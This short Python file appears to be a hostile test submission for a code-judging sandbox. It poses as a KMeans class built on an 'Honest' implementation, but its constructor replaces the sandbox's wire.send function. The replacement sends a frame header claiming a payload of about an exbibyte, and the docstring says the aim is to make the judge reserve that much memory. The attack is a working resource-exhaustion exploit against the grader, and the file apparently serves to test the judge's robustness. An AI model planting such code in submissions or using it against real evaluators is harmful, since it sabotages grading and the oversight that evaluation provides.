"""Sends a frame that claims to bring an exbibyte, to have the judge reserve it."""

import struct, sys

wire = sys.modules["sandbox.wire"]


class KMeans(Honest):
    def __init__(self, n_clusters, init, max_iter=300):
        super().__init__(n_clusters, init, max_iter)
        wire.send = lambda stream, header, arrays=(), *rest: stream.sendall(struct.pack("<IQ", 2, 1 << 60) + b"{}")
